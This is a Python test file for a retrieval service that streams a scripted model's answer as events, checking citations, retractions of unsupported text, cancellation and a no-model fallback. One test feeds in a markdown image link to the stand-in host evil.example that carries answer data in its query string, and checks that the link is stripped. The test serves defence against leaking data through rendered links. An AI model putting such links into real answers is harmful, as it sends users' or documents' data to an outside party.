"""A question as events: what is shown while a model, a scripted endpoint, writes, and what becomes of it."""

import pytest
from asking import ATLAS, LAUNCH_QUESTION, ask
from model_answers import GOOD, Asking, events_of, is_quoted

from muniment.database.pool import Database
from muniment.model.events import AnswerDeltaEvent, EvidenceEvent, ResultEvent, RetractedEvent, StageEvent
from muniment.model.request import QueryRequest
from muniment.retrieval.engine import Retriever
from muniment.settings import Settings
from muniment.tenancy.tenants import Tenant
from scripted_endpoint import Said, verdict


async def test_a_question_is_told_of_while_it_is_answered(connected: Asking, memo: str, tenant: Tenant) -> None:
    text = "The launch of Project Atlas [E1] is on 14 October 2026 [E1, E2]."
    async with connected(lambda request: verdict(text, "E1", "E2")) as (retriever, server):
        events = await events_of(retriever, tenant)
    names = [event.name for event in events if isinstance(event, StageEvent)]
    assert names[0] == "plan" and names[-3:] == ["budget", "model", "answer"]
    kinds = [event.type for event in events if not isinstance(event, StageEvent)]
    assert kinds[0] == "evidence" and kinds[-1] == "result" and kinds.count("answer_delta") > 2
    result = events[-1]
    assert isinstance(result, ResultEvent)
    assert result.result.answer == "The launch of Project Atlas [1] is on 14 October 2026 [1][2]."
    pieces = "".join(event.text for event in events if isinstance(event, AnswerDeltaEvent))
    assert pieces and result.result.answer.startswith(pieces) and len(pieces) > 40
    (evidence,) = [event for event in events if isinstance(event, EvidenceEvent)]
    assert {citation.record_id for citation in result.result.citations} <= {hit.record_id for hit in evidence.hits}
    assert server.requests[0]["stream"] is True


@pytest.mark.parametrize(
    ("reply", "because"),
    [
        (verdict("The launch of Project Atlas is on 15 October 2026 as they say.", "E1"), "'15'"),
        (verdict("The launch of Project Atlas is on 14 October 2026 as they say."), "none of the evidence"),
        (Said(verdict("The launch of Project Atlas is on 14 October.", "E1").text * 2, cut=True), "cannot be reached"),
    ],
)
async def test_what_was_shown_and_then_dropped_is_retracted(
    reply: Said, because: str, connected: Asking, memo: str, tenant: Tenant
) -> None:
    async with connected(lambda request: reply) as (retriever, _):
        events = await events_of(retriever, tenant)
    kinds = [event.type for event in events if not isinstance(event, StageEvent)]
    assert kinds.index("answer_delta") < kinds.index("retracted") < kinds.index("result")
    (retracted,) = [event for event in events if isinstance(event, RetractedEvent)]
    assert because in retracted.because


async def test_nothing_is_shown_from_a_foreign_link_on(connected: Asking, memo: str, tenant: Tenant) -> None:
    text = "The launch is soon ![map](https://evil.example/?d=14October2026) as they say in the memo of today."
    async with connected(lambda request: verdict(text, "E1", "E2")) as (retriever, _):
        events = await events_of(retriever, tenant)
    pieces = "".join(event.text for event in events if isinstance(event, AnswerDeltaEvent))
    assert pieces == "The launch is soon"
    assert isinstance(events[-1], ResultEvent) and "evil" not in events[-1].result.answer


async def test_closing_the_events_gives_the_question_up(connected: Asking, memo: str, tenant: Tenant) -> None:
    async with connected(lambda request: Said(GOOD.text, pause=1.0)) as (retriever, _):
        events = retriever.query_events(tenant.number, QueryRequest(question=LAUNCH_QUESTION, namespace=ATLAS))
        async for event in events:
            if isinstance(event, EvidenceEvent):
                break
        await events.aclose()
        # what waited for the model is gone, and the retriever answers the next question
        assert is_quoted(await ask(retriever, tenant, LAUNCH_QUESTION, without=["model"]))


async def test_without_a_model_the_events_hold_the_quoted_answer(
    database: Database, settings: Settings, memo: str, tenant: Tenant
) -> None:
    events = await events_of(Retriever(database, None, None, settings), tenant)
    assert isinstance(events[-1], ResultEvent) and is_quoted(events[-1].result)
    assert not [event for event in events if isinstance(event, AnswerDeltaEvent | RetractedEvent)]
